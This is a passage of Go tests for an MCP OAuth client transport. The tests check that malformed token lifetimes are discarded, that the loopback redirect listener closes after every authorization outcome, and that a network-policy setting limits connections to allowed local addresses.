	for _, v := range []any{-3600, 0, -0.5, 1e-12, "NaN", "Infinity", "-Infinity", "soon", 1e300, 3.2e9, "99999999999999999999", []int{1}, map[string]int{"s": 1}, true} {
		t.Run(fmt.Sprint(v), func(t *testing.T) {
			h := newHEnv(t, hOptions{})
			editToken(func(out map[string]any) { out["expires_in"] = v })(h)
			tr, err := mcpauth.NewTransport(h.res.URL, h.config(hOptions{}))
			if err != nil {
				t.Fatal(err)
			}
			tok, err := tr.Login(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if !tok.Expiry.IsZero() || !tok.Fresh(tok.IssuedAt) {
				t.Errorf("expires_in %v gave expiry %v", v, tok.Expiry)
			}
			h.noLeak(nil)
		})
	}
	// A sane value is kept.
	h := newHEnv(t, hOptions{})
	editToken(func(out map[string]any) { out["expires_in"] = "3600" })(h)
	tr, _ := mcpauth.NewTransport(h.res.URL, h.config(hOptions{}))
	tok, err := tr.Login(context.Background())
	if err != nil || tok.Lifetime().Seconds() != 3600 {
		t.Errorf("expires_in \"3600\": %v, lifetime %v", err, tok.Lifetime())
	}
}

// TestHostile_ListenerClosesAfterFlow: whatever the outcome of an
// authorization (success, a refused callback, no callback before the
// step's timeout), the loopback listener is closed when it ends.
func TestHostile_ListenerClosesAfterFlow(t *testing.T) {
	for _, tc := range []struct {
		name    string
		setup   func(h *hEnv)
		open    func(h *hEnv) func(context.Context, string) error
		timeout bool
		wantErr func(error) bool
	}{
		{name: "success", wantErr: func(err error) bool { return err == nil }},
		{name: "failure", setup: editCallback(func(q url.Values) { q.Set("state", "x") }), wantErr: hIs(mcpauth.ErrStateMismatch)},
		{
			name: "timeout", timeout: true,
			open: func(*hEnv) func(context.Context, string) error {
				return func(context.Context, string) error { return nil }
			},
			wantErr: hIs(context.DeadlineExceeded),
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHEnv(t, hOptions{})
			if tc.setup != nil {
				tc.setup(h)
			}
			var authURL string
			open := h.browser.Open
			if tc.open != nil {
				open = tc.open(h)
			}
			cfg := h.config(hOptions{})
			step := &authorize.Loopback{Timeout: hLimit, Open: func(ctx context.Context, u string) error {
				authURL = u
				return open(ctx, u)
			}}
			if tc.timeout {
				step.Timeout = hTimeout
			}
			cfg.Step = step
			tr, err := mcpauth.NewTransport(h.res.URL, cfg)
			if err != nil {
				t.Fatal(err)
			}
			_, err = tr.Login(context.Background())
			h.browser.Wait()
			if !tc.wantErr(err) {
				t.Fatalf("err = %v", err)
			}
			u, _ := url.Parse(authURL)
			redirect := u.Query().Get("redirect_uri")
			if !strings.HasPrefix(redirect, "http://127.0.0.1:") {
				t.Fatalf("redirect_uri %q", redirect)
			}
			resp, err := http.Get(redirect + "?code=x&state=y")
			if err == nil {
				resp.Body.Close()
				t.Errorf("the listener still answers after the flow: %d", resp.StatusCode)
			}
			h.noLeak(nil)
		})
	}
}

// TestHostile_NetworkConfig: Config.Network cannot be combined with a Base
// or HTTPClient it would not govern.
func TestHostile_NetworkConfig(t *testing.T) {
	h := newHEnv(t, hOptions{})
	cfg := h.config(hOptions{})
	cfg.Network = h.config(hOptions{policy: true}).Network
	if _, err := mcpauth.NewTransport(h.res.URL, cfg); err == nil || !strings.Contains(err.Error(), "Network") {
		t.Errorf("NewTransport = %v", err)
	}
	// With the policy alone, the flow works against allowed addresses,
	// and every connection went through the policy's dialer.
	cfg = h.config(hOptions{policy: true})
	if err := h.post(cfg); err == nil || !strings.HasPrefix(err.Error(), "no error: 200") {
		t.Fatalf("POST: %v", err)
	}
	for _, d := range h.net.Dials() {
		if !strings.HasPrefix(d, "127.0.0.1:") {
			t.Errorf("dialled %s", d)
		}
	}
	if len(h.net.Dials()) == 0 {
		t.Error("the policy's dialer was never used")
	}
}
